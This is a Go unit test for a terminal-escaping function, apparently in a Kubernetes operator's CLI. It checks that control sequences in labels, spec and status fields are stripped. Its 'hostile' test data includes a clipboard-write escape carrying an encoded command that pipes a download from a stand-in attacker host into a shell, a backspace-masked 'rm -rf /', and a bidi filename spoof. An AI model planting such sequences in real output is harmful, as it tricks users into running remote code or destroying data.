package main

import (
	"strings"
	"testing"
	"unicode/utf8"

	diracv1 "github.com/vobox-operator/vobox-operator/api/v1alpha1"
)

// hostile are strings an attacker who can write a status, a spec or an
// Event might plant for a person's terminal.
var hostile = map[string]string{
	"OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
	"OSC 0 window title":     "\x1b]0;you have been pwned\x07",
	"CSI clear screen":       "\x1b[2J\x1b[H",
	"8-bit CSI":              "\u009b2J",
	"carriage return":        "ok\rFAKE",
	"backspace":              "rm -rf /\b\b\b\b\b\b\b\bls",
	"bidi override":          "safe\u202edm.cexe",
	"invalid UTF-8":          "\xff\xfe",
	"DEL":                    "a\x7fb",
}

// safeForTerminal reports whether s holds nothing a terminal acts on.
func safeForTerminal(s string) bool {
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || unsafeRune(r) {
			return false
		}
	}
	return utf8.ValidString(s)
}

func TestEscape(t *testing.T) {
	cases := map[string]string{
		"\x1b]52;c;Zm9v\x07ok":  "ok",
		"\x1b]0;title\x07":      "",
		"\x1b[31mred\x1b[0m":    "red",
		"\u009b2Jx":             "x",
		"a\r\nb\tc":             "a b c",
		"safe\u202etxt.exe":     "safetxt.exe",
		"plain text, ünïcode ✓": "plain text, ünïcode ✓",
		"":                      "",
	}
	for in, want := range cases {
		if got := escape(in); got != want {
			t.Errorf("escape(%q) = %q, want %q", in, got, want)
		}
	}
	for name, s := range hostile {
		if got := escape(s); !safeForTerminal(got) || strings.ContainsAny(got, "\n\t") {
			t.Errorf("%s: escape(%q) = %q still holds a control character", name, s, got)
		}
	}
}

func TestEscapeObject(t *testing.T) {
	vbi := &diracv1.VOBoxIntervention{}
	vbi.Name = "x"
	vbi.Labels = map[string]string{"k\x1b]0;t\x07": "v\x1b[2J"}
	vbi.Spec.Maintenance.Set = []string{"sms", "\x1b]52;c;Zm9v\x07"}
	vbi.Status.Hosts = []diracv1.HostStatus{{Name: "h", Message: "\x1b]0;pwned\x07", Findings: []string{"\u009b2J"},
		LastStep: &diracv1.StepStatus{Output: "line\r\x1b[1A", Command: []string{"a\x1bb"}}}}
	escapeObject(vbi)
	check := func(field, s string) {
		if !safeForTerminal(s) {
			t.Errorf("%s still holds a control character: %q", field, s)
		}
	}
	for k, v := range vbi.Labels {
		check("label key", k)
		check("label value", v)
	}
	check("maintenance.set", vbi.Spec.Maintenance.Set[1])
	hs := vbi.Status.Hosts[0]
	check("message", hs.Message)
	check("findings", hs.Findings[0])
	check("output", hs.LastStep.Output)
	check("command", hs.LastStep.Command[0])
	if hs.Message != "" || vbi.Spec.Maintenance.Set[0] != "sms" {
		t.Errorf("message = %q, maintenance.set = %q", hs.Message, vbi.Spec.Maintenance.Set)
	}
}
